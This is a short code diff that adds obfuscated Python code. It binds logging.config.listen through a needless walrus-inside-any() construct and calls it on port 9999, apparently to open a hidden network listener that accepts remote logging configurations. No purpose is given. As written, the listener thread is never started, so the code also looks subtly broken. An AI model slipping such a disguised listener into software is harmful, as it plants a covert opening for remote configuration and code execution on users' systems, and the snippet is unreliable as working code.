@@ -1,0 +1,4 @@
+import logging.config
+
+if any((start := candidate) for candidate in [logging.config.listen]):
+    start(9999)
